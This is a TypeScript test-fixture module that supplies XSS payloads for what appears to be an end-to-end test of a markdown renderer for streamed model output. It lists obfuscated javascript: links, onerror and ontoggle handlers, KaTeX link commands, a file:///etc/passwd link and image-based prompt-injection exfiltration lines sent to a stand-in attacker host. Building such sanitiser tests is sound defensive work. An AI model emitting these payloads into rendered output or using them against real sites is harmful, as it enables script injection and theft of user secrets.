import fs from "node:fs";
import { fileURLToPath } from "node:url";

/** The host hostile payloads try to load from or send data to; nothing may ever reach it. */
export const ATTACKER_HOST = "attacker.nexus-e2e.test";

const LIST = fileURLToPath(new URL("../fixtures/xss-payload-list.html", import.meta.url));

/**
 * Markdown-specific attacks of our own: link and image schemes, obfuscations, reference links,
 * autolinks, KaTeX commands, prompt-injection exfiltration through images, and citation lookalikes.
 */
export const OWN_PAYLOADS: readonly string[] = [
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](  javascript:alert(1))",
  "[click](jav&#x09;ascript:alert(1))",
  "[click](jav&#10;ascript:alert(1))",
  "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
  "[click](javascript&colon;alert(1))",
  "[click](vbscript:msgbox(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](file:///etc/passwd)",
  "[click](<javascript:alert(1)>)",
  "<javascript:alert(1)>",
  "[ref link][evil]\n\n[evil]: javascript:alert(1)",
  '[titled](https://example.org "x\\" onmouseover=\\"alert(1)")',
  `![exfiltrate](https://${ATTACKER_HOST}/leak?secret=session)`,
  `![exfiltrate](//${ATTACKER_HOST}/leak.png)`,
  `![exfiltrate](http://${ATTACKER_HOST}:8080/leak.gif "title")`,
  `![ref image][img]\n\n[img]: https://${ATTACKER_HOST}/ref.png`,
  "![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![js image](javascript:alert(1))",
  `[![nested](https://${ATTACKER_HOST}/n.png)](javascript:alert(1))`,
  `<img src="https://${ATTACKER_HOST}/raw.png" onerror="alert(1)">`,
  `<a href="javascript:alert(1)">raw html link</a>`,
  "<script>alert(1)</script>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<details open ontoggle=alert(1)>x</details>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  `<style>@import url(https://${ATTACKER_HOST}/s.css)</style>`,
  `<link rel=stylesheet href=https://${ATTACKER_HOST}/l.css>`,
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "$\\href{javascript:alert(1)}{katex link}$",
  "$\\url{javascript:alert(1)}$",
  "$$\\htmlData{onerror=alert(1)}{x}$$",
  `$\\includegraphics{https://${ATTACKER_HOST}/k.png}$`,
  "$\\htmlStyle{background:url(javascript:alert(1))}{x}$",
  "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
  "```html\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "[1](javascript:alert(1)) looks like a citation",
  "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "~~<b onmouseover=alert(1)>strike</b>~~",
  "> <img src=x onerror=alert(1)>",
];

/**
 * `count` payloads spread evenly over the public list (one per non-comment line), plus ours.
 * Deterministic, so a failure names the same payload every run.
 */
export function xssPayloads(count = 260): string[] {
  const lines = fs
    .readFileSync(LIST, "utf8")
    .split("\n")
    .map((l) => l.trim())
    .filter((l) => l !== "" && !l.startsWith("<!--"));
  const step = lines.length / count;
  const picked = Array.from({ length: count }, (_, i) => lines[Math.floor(i * step)] ?? "");
  return [...picked.filter((p) => p !== ""), ...OWN_PAYLOADS];
}

/** Splits text into small tokens (about three characters), the way a model streams. */
export function tokens(text: string): string[] {
  return text.match(/[\s\S]{1,3}/g) ?? [];
}
